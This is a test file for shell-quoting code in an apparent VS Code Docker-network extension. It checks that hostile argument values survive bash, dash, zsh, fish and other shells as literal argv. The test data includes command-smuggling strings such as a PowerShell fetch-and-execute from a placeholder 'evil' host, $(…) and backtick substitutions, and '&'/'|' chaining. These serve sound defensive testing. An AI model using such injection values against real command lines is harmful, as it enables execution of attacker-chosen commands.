// Lines copied for a terminal must run exactly what they show. For every shell Debian offers, the line goes through
// the real shell and the program must receive exactly the original argv. PowerShell and cmd.exe cannot be installed
// here: their quoting is checked against its rules instead.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { describe, test } from 'node:test';
import { toConnectCliCommand } from '../../src/model/connectRequest';
import { createNetworkArgv, emptyAnswers, toDockerCliCommand } from '../../src/model/createNetwork';
import { commandLine, quoteArgument, shellKindOf, ShellKind, UnquotableValueError } from '../../src/model/shellQuoting';

const { findProgram } = require('../../../scripts/lib/apt.js') as { findProgram(name: string): string | undefined };

const HOSTILE = [
  "x'; iwr evil|iex; #", 'a & calc', 'a | b', '$(touch /tmp/dn-pwned)', '`touch /tmp/dn-pwned`', 'line\nbreak', '%PATH%', '!x!', 'a"b', "it's",
  '*', '~', '-rf', '', ' leading and trailing ', 'tab\there', 'ünïcødé ☃ 网络', 'back\\slash\\', '\\', '{a,b}', '#comment', 'a;b', '$HOME', "‘curly’", 'x > /tmp/dn-pwned',
];

/** The shells Debian offers that read a command with `-c`, with how argv comes back (NUL-separated). */
const SHELLS: { name: string; program: string; kind: ShellKind }[] = [
  { name: 'bash', program: 'bash', kind: 'posix' }, { name: 'dash', program: 'dash', kind: 'posix' }, { name: 'zsh', program: 'zsh', kind: 'posix' },
  { name: 'mksh', program: 'mksh', kind: 'posix' }, { name: 'busybox sh', program: 'busybox', kind: 'posix' }, { name: 'fish', program: 'fish', kind: 'fish' },
];

/** What a program receives when the shell runs `line`: node prints its argv NUL-separated. */
function argvThroughShell(program: string, line: string): string[] {
  const args = program.endsWith('/busybox') ? ['sh', '-c', line] : ['-c', line];
  const result = spawnSync(program, args, { encoding: 'utf8', env: { ...process.env, HOME: '/tmp/dn-home' } });
  assert.equal(result.status, 0, `${program} failed on ${line}: ${result.stderr}`);
  return result.stdout.split('\0').slice(0, -1);
}

const PRINT_ARGV = [process.execPath, '-e', 'process.stdout.write(process.argv.slice(1).map(a => a + "\\0").join(""))'];

describe('copied command lines run exactly what they show, in every shell', () => {
  for (const shell of SHELLS) {
    test(`${shell.name}: hostile values come back as the exact argv`, t => {
      const program = findProgram(shell.program);
      if (!program) {
        if (process.env.CI === 'true') assert.fail(`${shell.program} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
        t.skip(`${shell.program} is not installed`);
        return;
      }
      const line = commandLine([...PRINT_ARGV, ...HOSTILE], shell.kind);
      assert.deepEqual(argvThroughShell(program, line), HOSTILE);
    });
  }

  test('the docker create and connect lines quote each flag with its value as one argument', () => {
    const answers = { ...emptyAnswers(), name: 'web', labels: { owner: "x'; iwr evil|iex; #" } };
    assert.deepEqual(createNetworkArgv(answers), ['docker', 'network', 'create', "--label=owner=x'; iwr evil|iex; #", 'web']);
    assert.equal(toDockerCliCommand(answers), `docker network create '--label=owner=x'\\''; iwr evil|iex; #' web`);
    assert.equal(toDockerCliCommand(answers, 'powershell'), `docker network create '--label=owner=x''; iwr evil|iex; #' web`);
    assert.equal(toConnectCliCommand('web', 'api', { aliases: ['a & b'], links: [], linkLocalIps: [], driverOptions: {} }, 'cmd'), 'docker network connect "--alias=a & b" web api');
  });
});

describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
  test('PowerShell: single quotes, doubled inside (typographic ones too), nothing left to expand', () => {
    assert.equal(quoteArgument("x'; iwr evil|iex; #", 'powershell'), "'x''; iwr evil|iex; #'");
    assert.equal(quoteArgument('$(calc) `n $env:PATH', 'powershell'), "'$(calc) `n $env:PATH'");
    assert.equal(quoteArgument('‘a’', 'powershell'), "'‘‘a’’'");
    for (const value of ['a"b', 'trailing\\']) assert.throws(() => quoteArgument(value, 'powershell'), UnquotableValueError);
  });

  test('cmd.exe: double quotes keep & | < > ^ literal; %, !, " and line breaks are refused; trailing backslashes doubled', () => {
    assert.equal(quoteArgument('a & calc | x > y ^ z', 'cmd'), '"a & calc | x > y ^ z"');
    assert.equal(quoteArgument('C:\\dir\\', 'cmd'), '"C:\\dir\\\\"');
    for (const value of ['%PATH%', '!x!', 'a"b', 'line\nbreak']) {
      assert.throws(() => quoteArgument(value, 'cmd'), (err: Error) => err instanceof UnquotableValueError && err.message.includes('cmd.exe') && err.message.includes(JSON.stringify(value)));
    }
  });

  test('every shell refuses NUL; plain words stay unquoted', () => {
    for (const kind of ['posix', 'fish', 'powershell', 'cmd'] as const) {
      assert.throws(() => quoteArgument('a\0b', kind), /NUL/);
      assert.equal(quoteArgument('--subnet=10.0.0.0/24', kind), '--subnet=10.0.0.0/24');
    }
  });

  test('the shell is read from VS Code\'s env.shell', () => {
    assert.deepEqual(['/bin/bash', '/usr/bin/fish', 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', 'powershell.exe', 'C:\\Windows\\System32\\cmd.exe', '/bin/zsh', undefined].map(shellKindOf),
      ['posix', 'fish', 'powershell', 'powershell', 'cmd', 'posix', 'posix']);
  });
});
